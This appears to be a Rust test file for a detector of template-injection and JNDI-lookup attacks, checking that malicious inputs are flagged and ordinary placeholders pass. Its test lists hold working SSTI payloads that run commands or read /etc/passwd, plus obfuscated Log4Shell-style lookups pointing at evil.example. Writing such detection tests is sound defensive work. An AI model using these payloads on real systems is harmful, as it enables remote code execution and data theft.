//! Expressions: attacks of each engine, and honest placeholders.

use proptest::prelude::*;

use super::super::html::tests::{caught, passed, run_all};
use crate::inspect::{Class, steps};

const CLASSES: &[Class] = &[Class::Ssti, Class::Jndi];

#[test]
fn expressions_of_attacks_are_caught() {
    caught(
        CLASSES,
        true,
        &[
            "{{7*7}}",
            "{{ 7 * '7' }}",
            "${7*7}",
            "${{7*7}}",
            "#{7*7}",
            "#{ 3 * 3 }",
            "%{7*7}",
            "*{7*7}",
            "@(7*7)",
            "<%= 7*7 %>",
            "[[${7*7}]]",
            "{{'a'.toUpperCase()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{ ().__class__.__base__ }}",
            "{{request|attr('application')|attr('__globals__')}}",
            "{{config.items()}}",
            "{{settings.SECRET_KEY}}",
            "{{49|abs}}",
            "{{lipsum.__globals__['os'].popen('id').read()}}",
            "{{cycler.__init__.__globals__.os.popen('id').read()}}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "{{['id']|filter('system')}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{{$on.constructor('alert(1)')()}}",
            "{% import os %}{{os.system('id')}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "{% if True %}49{% endif %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{request.getClass().forName('java.lang.Runtime')}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
            "#set($x=7*7)$x",
            "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
            "{php}echo `id`;{/php}",
            "{system('id')}",
            "<%= system('id') %>",
            "<%= `id` %>",
            "#{`id`}",
            "#{IO.popen('id').read}",
            "#{root.process.mainModule.require('child_process').spawnSync('id')}",
            "@{[system 'id']}",
            "{{dump(app)}}",
            "{{'/etc/passwd'|file_excerpt(1,30)}}",
            "${class.getResource(\"\").getPath()}",
            "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
            "${\"calc.exe\".execute()}",
            "{{#with \"s\" as |string|}}{{lookup string.sub \"constructor\"}}{{/with}}",
            "${{<%[%'\"}}%\\.",
            "<%= Dir.entries('/') %>",
            "#{ %x|env| }",
            "{{{7*7}}}",
            "@(System.Diagnostics.Process.Start(\"cmd\"))",
            "${self.module.cache.util.os.system('id')}",
            "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id'))}__::.x",
            "<%@ page import=\"java.io.*\" %>",
        ],
    );
}

#[test]
fn lookups_are_caught_however_they_are_hidden() {
    caught(
        &[Class::Jndi],
        true,
        &[
            "${jndi:ldap://evil.example/a}",
            "${url:UTF-8:http://evil.example/}",
            "${dns:address|evil.example}",
            "x ${JNDI:rmi://evil.example/a",
            "${${lower:j}ndi:ldap://x/a}",
            "${${lower:j}${upper:n}${lower:d}i:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
            "${j${k8s:k5:-ND}i:ldap://x/a}",
            "${${env:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA:-j}ndi:x}",
            "${jnd${upper:\u{131}}:ldap://x/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${a:-${b:-$}{jndi:ldap://x/a}}",
            "${a:-$}{jndi:ldap://x/a}",
            "${env:X} ${a:-${jndi:dns://x}}",
        ],
    );
}

#[test]
fn honest_placeholders_pass() {
    passed(
        CLASSES,
        true,
        &[
            "Hello {{name}}, your order {{ order.id }} of {{order.date | date: '%Y-%m-%d'}}",
            "${HOME}/bin:${PATH:-/usr/bin} ${VAR:-${OTHER:-x}} ${#array[@]} ${name%.txt}",
            "${{ secrets.GITHUB_TOKEN }} and ${{ github.event.number }}",
            "{{#if user}}Hi {{user.name}}{{else}}Hi{{/if}} {{> partial}} {{{raw}}}",
            "{{- if .Values.enabled }}\n{{ include \"chart.name\" . | nindent 4 }}{{- end }}",
            "{% if user %}{{ user.name }}{% endif %}{% for x in items %}{{ x }}{% endfor %}",
            "{{ config(materialized='table') }} select * from {{ ref('orders') }}",
            "`Hello ${user.name}, ${items.length} items, ${a ? 'x' : 'y'}`",
            "#{name} %{name} %{count} items @{user} *{x}",
            "{{ 'hello' | t }} {{ _('text') }} {{ url_for('index') }}",
            "<%= title %> <% if x %> <% end %>",
            "style={{ width: 24, height: 3 }}",
            "@(ref) foo(@bar) a@(b)",
            "\\frac{{1}}{{2}} {{2019-2020}} {{1/2}}",
            "${env:HOME} ${sys:java.version} ${date:yyyy-MM-dd} ${main.class}",
            "50% {off} 7*7 = 49",
            "{{system}} {{ system.name }} {{process}} {{ open }}",
            "${SECRET_KEY} {{SECRET_KEY}} {{config.items}} ${self.environment} {{file.read}} ${process.start_time}",
            "HEAD@{1} stash@{0}",
            "#set($inputRoot = $input.path('$'))",
        ],
    );
}

#[test]
fn a_run_of_signs_is_not_read_again_for_each_of_them() {
    let value = format!("${{({}", "-".repeat(230));
    let before = steps::taken();
    run_all(value.as_bytes());
    let steps = steps::taken() - before;
    assert!(steps < 100 * value.len() as u64, "{steps} steps");
}

proptest! {
    #[test]
    fn nothing_panics(text in "[${}#%*@(<)|'\"_.:a-z7 \\-]{0,120}") {
        run_all(text.as_bytes());
    }
}
